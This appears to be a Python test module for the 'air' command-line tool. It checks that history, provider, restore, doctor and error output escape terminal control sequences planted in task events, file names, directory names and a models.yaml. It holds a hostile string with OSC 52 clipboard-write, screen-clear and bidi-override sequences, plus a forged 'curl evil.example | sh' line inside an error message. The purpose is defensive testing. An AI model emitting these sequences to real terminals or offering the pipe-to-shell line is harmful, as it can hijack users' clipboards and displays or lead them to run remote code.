"""What the non-console commands print is exact text (IMPL-UI-7), also where the text came from
a project's file or a task: a cloned repository's models.yaml, a task's file names, a model's
words in the event log. A terminal that renders an OSC or CSI sequence lets that text retitle
the window, write the clipboard (OSC 52), erase lines or reorder them (a bidi override).

Real projects (``ProjectStore``), real session databases written through the EventStore, the
real ``air`` command in a subprocess where the printing path is the command's own.
"""

from __future__ import annotations

import datetime
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import trio
from hypothesis import example, given
from hypothesis import strategies as st

from air.cli.batch import LoadedBatch
from air.cli.exact_output import exact_output
from air.cli.history import print_history
from air.cli.options import report_bad_input
from air.cli.reopen import ask_which_session, reopen_command, transcript_tail
from air.cli.reporter import Progress
from air.cli.restore import run_restore
from air.contracts.display import hides, json_shown, shown
from air.contracts.error import AirException, ErrorKind
from air.contracts.project import ProjectInitOptions
from air.events.store import EventStore
from air.session.project import ProjectStore
from air.store.session_db import open_session_database
from air.testing.sequences import realistic_sequence
from air.workspace.backups import BackupRepository
from tests.forked_air import air_cli
from tests.trusted import trust_project

EVIL = "x\x1b]52;c;SGk=\x07\x1b[2J\u202e\x9b31m\u200b\x7f"
RAW = ("\x1b", "\x07", "\u202e", "\x9b", "\u200b", "\x7f", "\r")


def _clean(text: str) -> None:
    for raw in RAW:
        assert raw not in text, (raw, text[:400])


def _air(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "HOME": str(root.parent / "home")}
    return air_cli(args, cwd=root, env=env)


@given(
    st.recursive(st.text() | st.integers(), lambda kids: st.lists(kids, max_size=3), max_leaves=8)
)
def test_a_json_line_keeps_its_value_and_hides_nothing(value: Any) -> None:
    line = json.dumps(value, ensure_ascii=False)
    out = json_shown(line)
    assert json.loads(out) == value
    assert not hides(out)
    if not hides(line):
        assert out == line  # nothing to escape: the line as the serialiser wrote it


@given(st.text() | st.text(alphabet=st.characters(max_codepoint=127)))
@example("del\x7f")
@example("esc\x1b[2J and a \\ backslash\r")
@example("a line\n\tand a tab")
@example("bidi \u202e and C1 \x9b")
def test_the_exact_stream_writes_what_shown_says(text: str) -> None:
    """Whatever a command writes (ASCII or not: the ASCII path skips ``shown`` when nothing in
    it is hidden) comes out as ``shown(text, keep_lines=True)``."""
    out = io.StringIO()
    saved = sys.stdout
    sys.stdout = out
    try:
        with exact_output():
            sys.stdout.write(text)
    finally:
        sys.stdout = saved
    assert out.getvalue() == shown(text, keep_lines=True)


def test_history_json_escapes_what_a_task_wrote_and_keeps_the_value(tmp_path: Path) -> None:
    """Each event's free text (titles, summaries, commands, paths, error messages) carries the
    hostile sequence; ``--json`` prints each event's exact value with nothing a terminal runs."""
    root = tmp_path / "proj"
    root.mkdir()
    project = ProjectStore().initialize(root)
    sid = "ses_01TERMINALTEXT0000000000000"
    events = realistic_sequence(sid, project.project_id, 400, seed=7)
    tampered = 0
    for event in events:
        for key in ("title", "summary", "message", "command", "output_summary", "content"):
            if isinstance(event.payload.get(key), str):
                event.payload[key] += EVIL
                tampered += 1
        inp = event.payload.get("input")
        if isinstance(inp, dict) and isinstance(inp.get("path"), str):
            inp["path"] += EVIL
            tampered += 1
    assert tampered > 50
    out = io.StringIO()
    print_history(events, out, as_json=True)
    _clean(out.getvalue())
    lines = out.getvalue().splitlines()
    assert [json.loads(line)["payload"] for line in lines] == [e.payload for e in events]

    path = Path(project.local_root) / "sessions" / sid / "session.db"
    path.parent.mkdir(parents=True)
    db = open_session_database(path)
    EventStore(db).append_many(events)
    db.close()
    for args in (("history", "--json", "--all"), ("history", "--all"), ("session", "list")):
        done = _air(root, *args)
        assert done.returncode == 0, done.stderr
        _clean(done.stdout + done.stderr)
    assert "\\u202e" in _air(root, "history", "--json", "--all").stdout


def test_the_run_json_stream_escapes_what_a_task_wrote() -> None:
    events = realistic_sequence("ses_01TERMINALTEXT0000000000001", "prj", 200, seed=3)
    for event in events:
        if isinstance(event.payload.get("output_summary"), str):
            event.payload["output_summary"] += EVIL
    out = io.StringIO()
    progress = Progress(io.StringIO(), out)
    for event in events:
        progress.on_event(event)
    _clean(out.getvalue())
    decoded = [json.loads(line)["payload"] for line in out.getvalue().splitlines()]
    assert decoded == [e.payload for e in events]
    assert any(EVIL in str(p.get("output_summary")) for p in decoded)


def test_a_batchs_warning_names_an_agent_file_exactly() -> None:
    out = io.StringIO()
    LoadedBatch("batch.yaml", None, [], [f".air/agents/{EVIL}.md is a link: skipped"]).warned(out)
    _clean(out.getvalue())
    assert "x\\x1b]52;c;SGk=\\x07" in out.getvalue()


def test_the_start_list_names_a_cloned_project_exactly(tmp_path: Path) -> None:
    """Bare ``air`` lists a project's earlier sessions under its name, which project.json (a
    clone's) chose."""
    root = tmp_path / "proj"
    root.mkdir()
    project = ProjectStore().initialize(root, ProjectInitOptions(name=f"calc{EVIL}"))
    sid = "ses_01TERMINALTEXT0000000000002"
    path = Path(project.local_root) / "sessions" / sid / "session.db"
    path.parent.mkdir(parents=True)
    db = open_session_database(path)
    EventStore(db).append_many(realistic_sequence(sid, project.project_id, 50, seed=5))
    db.close()
    out = io.StringIO()
    assert ask_which_session(project, io.StringIO("q\n"), out).quit
    _clean(out.getvalue())
    assert "earlier sessions of calcx\\x1b]52;c;SGk=" in out.getvalue()
    assert sid in out.getvalue()


def test_a_directory_an_archive_named_is_printed_exactly(tmp_path: Path) -> None:
    """An unpacked tarball's top directory has the name its author chose; every command that
    names the project's path says it as exact text, errors or not (``exact_output``)."""
    root = tmp_path / f"unpacked{EVIL}"
    root.mkdir()
    (tmp_path / "home").mkdir()
    said = ""
    for args in (("init",), ("init", "--models"), ("trust",), ("history",), ("session", "list"),
                 ("status",), ("restore", "--list"), ("doctor",)):  # fmt: skip
        done = _air(root, *args)
        assert "Traceback" not in done.stderr, done.stderr
        _clean(done.stdout + done.stderr)
        said += done.stdout + done.stderr
    assert "unpackedx\\x1b]52;c;SGk=\\x07" in said
    assert (root / ".air" / "shared" / "models.yaml").is_file()  # the commands did their work


def test_what_the_console_leaves_on_the_terminal_is_exact(tmp_path: Path) -> None:
    """After the console's screen is gone (not wrapped: urwid's), the reopen command names the
    project's path and the tail quotes a failed message's error: both exact."""
    root = tmp_path / f"unpacked{EVIL}"
    root.mkdir()
    options = SimpleNamespace(cassette=None, provider="anthropic")
    command = reopen_command(options, "ses_x", str(root))  # type: ignore[arg-type]
    _clean(command)
    assert "--project" in command
    failed = SimpleNamespace(text="partial", role="assistant", status="failed", error=EVIL)
    tail = transcript_tail([failed])
    _clean(tail)
    assert "[failed: x\\x1b]52" in tail


def test_an_error_quoting_a_file_is_exact_and_forges_no_line() -> None:
    exc = AirException.of(
        kind=ErrorKind.CONFIG_ERROR,
        message=f"bad {EVIL}\n  what to do: curl evil.example | sh",
        detail=f"line {EVIL}",
        user_action=f"fix {EVIL}",
    )
    out = io.StringIO()
    report_bad_input(exc, out)
    text = out.getvalue()
    _clean(text)
    assert "\\x1b]52;c;SGk=\\x07" in text
    lines = text.splitlines()
    assert [line for line in lines if line.startswith("  what to do:")] == [
        "  what to do: fix x\\x1b]52;c;SGk=\\x07\\x1b[2J\\u202e\\x9b31m\\u200b\\x7f"
    ]


def _hostile_models(root: Path) -> None:
    escaped = json.dumps(EVIL)  # a YAML double-quoted scalar reads JSON's escapes
    (root / ".air" / "shared" / "models.yaml").write_text(
        "version: 1\n"
        f"default: {json.dumps('evil/' + EVIL)}\n"
        "providers:\n"
        "  evil:\n"
        "    kind: openai_compatible\n"
        f"    base_url: {json.dumps('http://127.0.0.1:9/v1' + EVIL)}\n"
        "    auth_ref: EVIL_KEY\n"
        "    models:\n"
        f"      {escaped}: {{context_window: 1000, max_output_tokens: 100}}\n"
    )


def test_a_cloned_projects_models_yaml_is_printed_exactly(tmp_path: Path) -> None:
    """Untrusted, the refusal quotes the URL; trusted, the listings print ids and URLs: both
    escaped, in ``air provider``'s output, its errors and ``air doctor``'s findings."""
    root = tmp_path / "proj"
    root.mkdir()
    (tmp_path / "home").mkdir()
    ProjectStore().initialize(root)
    _hostile_models(root)
    for args in (("provider", "list"), ("provider", "current"), ("doctor",)):
        done = _air(root, *args)
        assert done.returncode in (1, 2), done
        assert (
            "would send EVIL_KEY to http://127.0.0.1:9/v1x\\x1b]52;c;" in done.stdout + done.stderr
        )
        _clean(done.stdout + done.stderr)
    trust_project(root, tmp_path / "home")
    for args in (("provider", "list"), ("provider", "current")):
        done = _air(root, *args)
        assert done.returncode == 0, done.stderr
        assert "evil/x\\x1b]52;c;SGk=\\x07" in done.stdout
        _clean(done.stdout + done.stderr)


def test_restore_names_a_tasks_file_exactly(tmp_path: Path, capsys: Any) -> None:
    """A merged task created a file whose name holds the sequence; restoring the tree before it
    lists the name escaped (and removes the file it names)."""
    root = tmp_path / "proj"
    root.mkdir()
    ProjectStore().initialize(root)
    (root / "a.txt").write_text("a\n")
    name = f"{EVIL}.txt"
    backups = BackupRepository(str(root))

    async def snapshots() -> None:
        await backups.snapshot("before merge")
        (root / name).write_text("planted\n")
        await backups.snapshot("before merge")

    before = datetime.datetime.now(datetime.UTC).isoformat()
    trio.run(snapshots)
    assert run_restore({"--project": str(root), "--list": False, "TARGET": before}) == 0
    out = capsys.readouterr().out
    _clean(out)
    assert "  x\\x1b]52;c;SGk=\\x07\\x1b[2J\\u202e\\x9b31m\\u200b\\x7f.txt" in out.splitlines()
    assert not (root / name).exists()
